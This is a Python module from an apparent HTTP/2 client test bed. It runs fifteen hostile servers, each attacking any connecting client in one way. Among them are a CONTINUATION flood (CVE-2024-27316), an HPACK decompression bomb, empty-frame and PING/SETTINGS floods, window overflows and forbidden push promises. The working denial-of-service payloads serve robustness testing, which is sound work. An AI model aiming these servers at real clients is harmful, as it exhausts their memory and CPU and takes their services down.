"""Servers that mean ill to a client of HTTP/2, each with its own way: to every connection, for as long as it lasts.

``python -m krun_testbed.hostile_front KIND --host ADDRESS --port PORT`` runs one.
"""

from __future__ import annotations

import contextlib
import itertools
import selectors
import socket
import threading
from collections.abc import Callable, Iterator

import click

from krun_testbed.scripted import (
    CONTINUATION,
    DATA,
    END_STREAM,
    HEADERS,
    OK,
    PING,
    PUSH_PROMISE,
    SETTINGS,
    answer,
    field,
    frame,
    goaway,
    reset,
    setting,
    window,
)

PIECE = 64 * 1024  # bytes that are written at a time
UNKNOWN = 0xBE  # a kind of frame that nobody has
BEGINNING = frame(SETTINGS) + frame(SETTINGS, flags=1)
Said = Iterator[bytes]  # what an attacker says, piece by piece


def _continuations() -> Said:
    """An answer whose head has no end (CVE-2024-27316)."""
    yield BEGINNING + frame(HEADERS, stream=1, payload=OK)
    yield from itertools.repeat(frame(CONTINUATION, stream=1, payload=field(b"a", b"b" * 100) * 100))


def _bombs() -> Said:
    """A table's entry that is named again and again: a few bytes that become megabytes."""
    name = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    yield BEGINNING
    yield from itertools.repeat(answer(1, OK + name + b"\xbe" * 12000))


def _heads() -> Said:
    """One interim answer after the other (RFC 9110 §15.2)."""
    yield BEGINNING
    yield from itertools.repeat(answer(1, b"\x08\x03100") * 500)


def _single_bytes() -> Said:
    """Payload byte by byte, beyond any window."""
    yield BEGINNING + answer(1)
    yield from itertools.repeat(frame(DATA, stream=1, payload=b"x") * 500)


def _empties() -> Said:
    """Frames without anything in them (CVE-2019-9518)."""
    yield BEGINNING + answer(1)
    yield from itertools.repeat(frame(DATA, stream=1) * 1000)


def _pings() -> Said:
    yield BEGINNING
    yield from itertools.repeat(frame(PING, payload=bytes(8)) * 1000)


def _settings() -> Said:
    yield BEGINNING
    yield from itertools.repeat(setting(4, 65535) * 1000)


def _overflows() -> Said:
    """Windows beyond what they may be."""
    yield BEGINNING + window(1, 2**31 - 1) + window(0, 2**31 - 1) * 2
    yield from itertools.repeat(b"")


def _promises() -> Said:
    """What nobody has asked for, and we have forbidden."""
    yield BEGINNING
    for stream in itertools.count(2, 2):
        yield frame(PUSH_PROMISE, stream=1, payload=stream.to_bytes(4, "big") + OK, flags=4)


def _unknown() -> Said:
    """Frames that are to be read and dropped (RFC 9113 §5.5)."""
    yield BEGINNING
    yield from itertools.repeat(frame(UNKNOWN, payload=bytes(16384)))


def _resets() -> Said:
    """Each stream is taken back as it comes."""
    yield BEGINNING
    for stream in range(1, 2001, 2):
        yield reset(stream, 7)
    yield from itertools.repeat(b"")


def _goodbyes() -> Said:
    """Nothing but GOAWAY: each connection is a new one's reason."""
    yield BEGINNING + goaway(last=0)


def _ends() -> Said:
    """Answers that are over at once."""
    yield BEGINNING + frame(HEADERS, stream=1, payload=OK, flags=4 | END_STREAM)
    yield from itertools.repeat(b"")


def _silence() -> Said:
    """Connected, and nothing more."""
    yield from itertools.repeat(b"")


def _zero_windows() -> Said:
    """A tunnel that takes nothing."""
    yield setting(4, 0) + frame(SETTINGS, flags=1) + answer(1)
    yield from itertools.repeat(b"")


KINDS: dict[str, Callable[[], Said]] = {
    "continuations": _continuations,
    "bombs": _bombs,
    "heads": _heads,
    "single-bytes": _single_bytes,
    "empties": _empties,
    "pings": _pings,
    "settings": _settings,
    "overflows": _overflows,
    "promises": _promises,
    "unknown": _unknown,
    "resets": _resets,
    "goodbyes": _goodbyes,
    "ends": _ends,
    "silence": _silence,
    "zero-windows": _zero_windows,
}


def say(connected: socket.socket, pieces: Said) -> None:
    """Say it, until the client has had enough; what the client says is read, and dropped."""
    with connected, selectors.DefaultSelector() as selector:
        # A head must have come: streams that nobody has opened end a connection sooner.
        connected.recv(65536)
        connected.setblocking(False)
        selector.register(connected, selectors.EVENT_READ | selectors.EVENT_WRITE)
        rest = b""
        while True:
            for _, mask in selector.select():
                if mask & selectors.EVENT_READ and not connected.recv(2**20):
                    return
                if mask & selectors.EVENT_WRITE:
                    rest = rest or next(pieces, b"")
                    if not rest:
                        selector.modify(connected, selectors.EVENT_READ)
                        continue
                    rest = rest[connected.send(rest[:PIECE]) :]


def serve(listener: socket.socket, kind: str) -> None:
    """Do it to all who come; says how often, for each."""

    def attack(connected: socket.socket, number: int) -> None:
        click.echo(f"hostile: {kind} {number}")
        with contextlib.suppress(OSError):
            say(connected, KINDS[kind]())

    for number in itertools.count(1):
        connected, _ = listener.accept()
        threading.Thread(target=attack, args=(connected, number), daemon=True).start()


@click.command()
@click.argument("kind", type=click.Choice(list(KINDS)))
@click.option("--host", default="127.0.0.1", show_default=True, help="At which address.")
@click.option("--port", default=15009, show_default=True, help="At which port.")
def main(kind: str, host: str, port: int) -> None:
    """Attack clients of one's own until this is ended, in one of these ways."""
    with socket.create_server((host, port), backlog=1024) as listener:
        click.echo("hostile: listening")
        serve(listener, kind)


if __name__ == "__main__":
    main()
